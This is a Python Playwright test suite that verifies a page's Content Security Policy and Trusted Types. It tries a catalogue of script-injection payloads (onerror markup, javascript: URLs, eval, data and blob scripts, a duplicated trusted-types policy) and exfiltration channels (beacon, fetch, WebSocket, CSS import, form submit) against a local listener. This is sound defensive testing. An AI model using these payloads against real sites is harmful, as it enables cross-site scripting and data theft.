"""The policy of the page holds against whoever could put a text where it does not belong."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING
from urllib.request import urlopen

import pytest

from returning import open_again

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser

    from opening import Visit
    from returning import FirstVisit

RUN = "window.intruder = 1"
SETTLED = 150
"""Milliseconds in which a request to this machine would have come."""

RUNS = {
    "a script element": f"const s = document.createElement('script'); s.text = '{RUN}';"
    "document.body.append(s)",
    "a script element by its text": f"const s = document.createElement('script'); s.textContent = '{RUN}';"
    "document.body.append(s)",
    "a script from a data address": "const s = document.createElement('script');"
    f"s.src = 'data:text/javascript,{RUN}'; document.body.append(s)",
    "a script from a blob": f"const s = document.createElement('script');"
    f"s.src = URL.createObjectURL(new Blob(['{RUN}'])); document.body.append(s)",
    "a script from elsewhere": "const s = document.createElement('script');"
    "s.src = ELSEWHERE + 'a.js'; document.body.append(s)",
    "a module from elsewhere": "import(ELSEWHERE + 'a.mjs').catch(() => 0)",
    "a module from a data address": f"import('data:text/javascript,{RUN}').catch(() => 0)",
    "a handler in an attribute": f"document.body.setAttribute('onclick', '{RUN}'); document.body.click();"
    "document.body.removeAttribute('onclick')",
    "a handler in markup": f"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"{RUN}\">')",
    "markup by innerHTML": f"document.createElement('div').innerHTML = '<img src=x onerror=\"{RUN}\">'",
    "markup by outerHTML": f"document.querySelector('h1').outerHTML = '<svg onload=\"{RUN}\">'",
    "markup in a range": f"document.createRange().createContextualFragment('<script>{RUN}</script>')",
    "markup that is parsed": f"new DOMParser().parseFromString('<script>{RUN}</script>', 'text/html')",
    "markup that is written": f"document.write('<script>{RUN}</script>')",
    "markup through the page's own door": "document.createElement('div').innerHTML ="
    f"piazzaTrust.createHTML('<scr' + 'ipt>{RUN}</scr' + 'ipt>')",
    "a door of one's own": "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
    "the page's door a second time": "trustedTypes.createPolicy('piazza', { createHTML: (text) => text })",
    "a document in a frame": "const f = document.createElement('iframe');"
    "f.srcdoc = '<script>parent.intruder = 1</script>'; document.body.append(f)",
    "a frame with a script for its address": "const f = document.createElement('iframe');"
    "f.src = 'javascript:parent.intruder = 1'; document.body.append(f)",
    "a link with a script for its address": "const a = document.createElement('a');"
    f"a.href = 'javascript:{RUN}'; document.body.append(a); a.click()",
    "eval": f"eval('{RUN}')",
    "a function from a text": f"new Function('{RUN}')()",
    "a timer with a text": f"setTimeout('{RUN}')",
    "a worker from a blob": "new Worker(URL.createObjectURL(new Blob(['1'])))",
    "a worker from elsewhere": "new Worker(ELSEWHERE + 'a.js')",
    "a service worker from elsewhere": "navigator.serviceWorker.register(ELSEWHERE + 'sw.js').catch(() => 0)",
}
"""Ways to run a program in the page; each may fail loudly."""

SENDS = {
    "fetch": "fetch(ELSEWHERE).catch(() => 0)",
    "an XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', ELSEWHERE); x.send()",
    "a beacon": "navigator.sendBeacon(ELSEWHERE, 'secret')",
    "a socket": "new WebSocket(ELSEWHERE.replace('http', 'ws'))",
    "a stream of events": "new EventSource(ELSEWHERE)",
    "a picture": "new Image().src = ELSEWHERE",
    "a picture in a style": "document.body.style.backgroundImage = `url(${ELSEWHERE})`",
    "a stylesheet": "const l = document.createElement('link'); l.rel = 'stylesheet';"
    "l.href = ELSEWHERE; document.head.append(l)",
    "an import in a stylesheet": "const s = document.createElement('style');"
    "s.textContent = `@import '${ELSEWHERE}'`; document.head.append(s)",
    "a font": "new FontFace('x', `url(${ELSEWHERE})`).load().catch(() => 0)",
    "a film": "const v = document.createElement('video'); v.src = ELSEWHERE; document.body.append(v)",
    "a frame": "const f = document.createElement('iframe'); f.src = ELSEWHERE; document.body.append(f)",
    "an object": "const o = document.createElement('object'); o.data = ELSEWHERE; document.body.append(o)",
    "a form": "const f = document.createElement('form'); f.action = ELSEWHERE;"
    "document.body.append(f); f.submit()",
    "a symbol of another drawing": "const u = document.createElementNS('http://www.w3.org/2000/svg', 'use');"
    "u.setAttribute('href', ELSEWHERE + '#a'); document.querySelector('svg').append(u)",
    "something fetched in advance": "const l = document.createElement('link'); l.rel = 'prefetch';"
    "l.href = ELSEWHERE; document.head.append(l)",
}
"""Ways to tell somebody else what stands in the page without leaving it."""


@pytest.fixture(scope="module")
def trying(browser: Browser, first: FirstVisit | None, address: str) -> Iterator[Visit]:
    """A page that may be left in disorder."""
    with open_again(browser, first) as visit:
        visit.go(address)
        yield visit


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of another server, and what it was asked for."""
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        """Notes what it is asked for."""

        def do_GET(self) -> None:
            """Note the path."""
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - what the library calls

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - as the library has it
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://localhost:{server.server_port}/"
    urlopen(address).close()
    assert asked == ["/"]
    asked.clear()
    yield address, asked
    server.shutdown()
    server.server_close()


def attempt(visit: Visit, script: str, address: str) -> bool:
    """Try something in the page; whether a program of the intruder's ran."""
    page = visit.page
    page.evaluate("(address) => { delete window.intruder; window.ELSEWHERE = address; }", address)
    # In a task of its own: within what a test asks, the browser allows more than it does to a page.
    page.evaluate(f"() => {{ setTimeout(() => {{ try {{ {script} }} catch {{ /* refused */ }} }}) }}")
    page.wait_for_timeout(SETTLED)
    ran: bool = page.evaluate("window.intruder === 1")
    return ran


@pytest.mark.parametrize("way", RUNS)
def test_no_program_from_elsewhere(trying: Visit, elsewhere: tuple[str, list[str]], way: str) -> None:
    """No text becomes a program of the page, and no program is fetched from elsewhere."""
    address, asked = elsewhere
    assert not attempt(trying, RUNS[way], address)
    assert not asked


@pytest.mark.parametrize("way", SENDS)
def test_nothing_is_told_elsewhere(trying: Visit, elsewhere: tuple[str, list[str]], way: str) -> None:
    """Nothing of the page goes to another server."""
    address, asked = elsewhere
    attempt(trying, SENDS[way], address)
    assert not asked
